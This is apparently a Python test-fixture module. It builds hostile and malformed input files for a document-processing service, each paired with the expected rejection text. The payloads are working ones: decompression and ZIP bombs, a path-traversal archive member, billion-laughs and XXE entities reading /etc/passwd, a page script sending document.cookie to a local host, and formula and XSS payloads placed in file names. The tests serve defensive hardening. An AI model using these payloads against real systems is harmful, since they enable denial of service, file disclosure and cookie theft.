"""Papers made to do harm, or broken on their way: each with the words that its rejection holds."""

import io
import zipfile
import zlib
from collections.abc import Callable
from dataclasses import dataclass

GIBIBYTE = 1 << 30
BLOCK = 1 << 20
# A browser's page in the place of a paper, as a server in trouble or a firewall sends it.
ERROR_PAGE = b"""<!DOCTYPE html><html><head><title>403 Forbidden</title></head>
<body><h1>Forbidden</h1><p>Access to this document is blocked. Reference #18.6f.</p></body></html>
"""
WORD_TYPES = (
    '<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/'
    'content-types"><Default Extension="rels" ContentType="application/vnd.openxmlformats-package.'
    'relationships+xml"/><Override PartName="/word/document.xml" ContentType="application/vnd.'
    'openxmlformats-officedocument.wordprocessingml.document.main+xml"/></Types>'
)
WORD_RELATIONS = (
    '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
    'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/'
    '2006/relationships/officeDocument" Target="word/document.xml"/></Relationships>'
)
WORD_NAMESPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


@dataclass(frozen=True, slots=True)
class HostilePaper:
    """One paper: its name, its bytes, and words of the reason; None where it may be read."""

    name: str
    make: Callable[[], bytes]
    reason: str | None


def pdf_of(content: bytes, filters: str = "", page: str = "/MediaBox [0 0 595 842]") -> bytes:
    """A PDF of one page with this content stream."""
    objects = [
        b"<< /Type /Catalog /Pages 2 0 R >>",
        b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        f"<< /Type /Page /Parent 2 0 R {page} /Contents 4 0 R /Resources << /Font << /F1 5 0 R >>"
        " >> >>".encode(),
        f"<< /Length {len(content)} {filters} >>\nstream\n".encode() + content + b"\nendstream",
        b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    ]
    written = io.BytesIO()
    written.write(b"%PDF-1.7\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(written.tell())
        written.write(f"{number} 0 obj\n".encode() + body + b"\nendobj\n")
    start = written.tell()
    table = "".join(f"{offset:010} 00000 n \n" for offset in offsets)
    written.write(f"xref\n0 6\n0000000000 65535 f \n{table}".encode())
    written.write(f"trailer << /Size 6 /Root 1 0 R >>\nstartxref\n{start}\n%%EOF\n".encode())
    return written.getvalue()


def printed(words: str) -> bytes:
    """A content stream that prints a line."""
    return f"BT /F1 12 Tf 72 720 Td ({words}) Tj ET".encode()


def unfolding_pdf() -> bytes:
    """A PDF of some kilobytes whose stream unfolds to a gibibyte of blanks."""
    packer = zlib.compressobj(9)
    blank = b" " * BLOCK
    once = b"".join(packer.compress(blank) for _ in range(GIBIBYTE // BLOCK)) + packer.flush()
    return pdf_of(zlib.compress(once, 9), "/Filter [/FlateDecode /FlateDecode]")


def encrypted_pdf() -> bytes:
    """A PDF that says it is locked by a password that nobody has."""
    key = "00" * 32
    lock = f"<< /Filter /Standard /V 1 /R 2 /O <{key}> /U <{key}> /P -4 >> /ID [<{key}> <{key}>]"
    return pdf_of(printed("Locked")).replace(
        b"/Root 1 0 R", f"/Root 1 0 R /Encrypt {lock}".encode()
    )


def archive_of(**members: bytes | str) -> bytes:
    """A ZIP file of members; `__` in a name stands for a slash, `_dot_` for a dot."""
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(name.replace("__", "/").replace("_dot_", "."), data)
    return written.getvalue()


def word_file(document: str) -> bytes:
    """A Word file with this as its document part."""
    return archive_of(
        **{
            "[Content_Types].xml": WORD_TYPES,
            "_rels/.rels": WORD_RELATIONS,
            "word/document.xml": document,
        }
    )


def entity_document(declared: str, used: str) -> str:
    """A document part that declares entities and prints one."""
    return (
        f'<?xml version="1.0"?><!DOCTYPE w:document [{declared}]><w:document '
        f'xmlns:w="{WORD_NAMESPACE}"><w:body><w:p><w:r><w:t>Harbour &{used};</w:t></w:r></w:p>'
        "</w:body></w:document>"
    )


def exploding_word_file() -> bytes:
    """Ten entities, each ten times the one before."""
    declared = '<!ENTITY e0 "laugh">' + "".join(
        f'<!ENTITY e{number} "{f"&e{number - 1};" * 10}">' for number in range(1, 11)
    )
    return word_file(entity_document(declared, "e10"))


def external_word_file() -> bytes:
    """An entity that is a file of the machine."""
    return word_file(entity_document('<!ENTITY f SYSTEM "file:///etc/passwd">', "f"))


def zip_bomb() -> bytes:
    """A member of a gibibyte in a megabyte."""
    written = io.BytesIO()
    with (
        zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive,
        archive.open("paper.txt", "w") as member,
    ):
        for _ in range(GIBIBYTE // BLOCK):
            member.write(b" " * BLOCK)
    return written.getvalue()


def nested_zip() -> bytes:
    """Archives in archives, deeper than any paper is packed."""
    packed = archive_of(**{"paper.txt": "Words of the harbour board.\n"})
    for depth in range(6):
        packed = archive_of(**{f"level{depth}.zip": packed})
    return packed


def long_table() -> bytes:
    """A web page with a table of about a hundred megabytes."""
    row = b"<tr>" + b"<td>quay</td>" * 80 + b"</tr>\n"
    return b"<!DOCTYPE html><html><body><table>" + row * (95 * BLOCK // len(row)) + b"</table>"


SCRIPT_PAGE = b"""<!DOCTYPE html><html><head><title>Harbour</title>
<script>fetch("http://127.0.0.1:9/" + document.cookie)</script></head><body onload="alert(1)">
<p>The harbour board met.</p><img src="http://127.0.0.1:9/x.png"><iframe src="file:///etc/passwd">
</iframe></body></html>
"""
GOOD_PDF = pdf_of(printed("The harbour board met at the quay."))

HOSTILE_PAPERS = (
    HostilePaper("empty.pdf", lambda: b"", "is an empty file"),
    HostilePaper("blank.txt", lambda: b" \n\t\n", "holds no words"),
    HostilePaper("truncated.pdf", lambda: GOOD_PDF[:200], "damaged"),
    HostilePaper("encrypted.pdf", encrypted_pdf, "password"),
    HostilePaper("mislabelled.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(200), "is a picture"),
    HostilePaper("forbidden.pdf", lambda: ERROR_PAGE, "web page"),
    HostilePaper("unfolding.pdf", unfolding_pdf, "when unpacked"),
    HostilePaper(
        "wide.pdf",
        lambda: pdf_of(printed("Wide"), page="/MediaBox [0 0 2834646 842]"),
        "measures",
    ),
    HostilePaper("bomb.zip", zip_bomb, "limit"),
    HostilePaper("nested.zip", nested_zip, "archives"),
    HostilePaper("escaping.zip", lambda: archive_of(**{"../../evil.txt": "Words.\n"}), "leads out"),
    HostilePaper("exploding.docx", exploding_word_file, "entit"),
    HostilePaper("external.docx", external_word_file, "entit"),
    HostilePaper("noise.txt", lambda: bytes(range(256)) * 64, "binary data"),
    HostilePaper("scripts.html", lambda: SCRIPT_PAGE, None),
    HostilePaper("long-table.html", long_table, "web page of"),
    HostilePaper("two\nlines.txt", lambda: b"\x00\x01\x02", "binary data"),
    HostilePaper("=cmd()\x1b[31m.txt", lambda: b"\x00\x01\x02", "binary data"),
    HostilePaper("<img src=x onerror=alert(1)>.txt", lambda: b"The harbour board met.\n", None),
)
